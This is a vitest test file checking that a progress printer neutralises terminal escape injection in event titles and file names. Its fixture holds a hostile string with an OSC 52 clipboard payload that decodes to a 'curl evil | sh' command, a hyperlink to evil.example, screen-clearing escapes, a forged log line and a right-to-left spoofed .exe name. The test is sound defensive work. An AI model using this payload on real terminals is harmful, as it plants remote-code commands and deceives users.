import { describe, expect, it } from 'vitest';
import type { RunEvent } from '../domain/events.js';
import { EngineeringRequest } from '../domain/request.js';
import { describeEvent, progressPrinter } from './progress.js';

const hostile =
  'Fix totals\u001b]8;;http://evil.example\u0007 link\u001b]8;;\u0007\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007' +
  '\u001b[2J\u001b[1A\rrun completed\n12:00:00.000  pull request #1 opened \u202egnp.exe\u0008\u009b31m';

const envelope = {
  runId: 'run-1',
  seq: 1,
  key: 'k',
  traceId: 'b'.repeat(32),
  actor: { kind: 'step', id: 'test' },
  policyVersion: 'v1',
  at: '2026-01-01T12:00:00.000Z',
} as const;

function requestReceived(title: string): RunEvent {
  return {
    ...envelope,
    type: 'request.received',
    data: {
      request: EngineeringRequest.parse({
        id: 'req-1',
        source: 'file',
        repository: { name: 'billing-service' },
        requester: 'maria',
        title,
        description: 'd',
        acceptanceCriteria: ['a'],
        receivedAt: '2026-01-01T00:00:00.000Z',
      }),
      raw: 'a'.repeat(64),
    },
  };
}

/** Everything a terminal would act on rather than print, besides the newline that ends a line. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point.
const terminalControls = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

describe('describeEvent', () => {
  it('prints a hostile title as one inert line', () => {
    // Act
    const line = describeEvent(requestReceived(hostile));
    // Assess
    expect(line).toBe(
      'request received: "Fix totals link run completed 12:00:00.000  pull request #1 opened gnp.exe" (file, by maria)',
    );
  });

  it('prints a hostile file name inert', () => {
    // Act
    const line = describeEvent({
      ...envelope,
      type: 'file.changed',
      data: { callId: 'c1', path: `src/${hostile}.js`, after: 'a'.repeat(64) },
    });
    // Assess
    expect(line.startsWith('  file changed: src/Fix totals link run completed')).toBe(true);
    expect(line).not.toMatch(terminalControls);
    expect(line).not.toContain('\n');
  });
});

describe('progressPrinter', () => {
  it.each([false, true])('writes one line per event with no control of its own (tty: %s)', (isTTY) => {
    // Prepare
    const written: string[] = [];
    const stream = { isTTY, write: (chunk: string) => written.push(chunk) } as unknown as NodeJS.WriteStream;
    // Act
    progressPrinter(stream)(requestReceived(hostile));
    // Assess
    expect(written).toHaveLength(1);
    const [chunk = ''] = written;
    expect(chunk.endsWith('\n')).toBe(true);
    expect(chunk.slice(0, -1)).not.toContain('\n');
    expect(chunk).not.toContain('evil.example');
    expect(chunk).not.toContain('\u202e');
    // On a terminal only the printer's own colour codes remain: SGR, nothing else.
    // biome-ignore lint/suspicious/noControlCharactersInRegex: removing the printer's colour codes is the point.
    const withoutColour = chunk.replace(/\u001b\[[0-9;]*m/g, '');
    expect(withoutColour.slice(0, -1)).not.toMatch(terminalControls);
  });
});
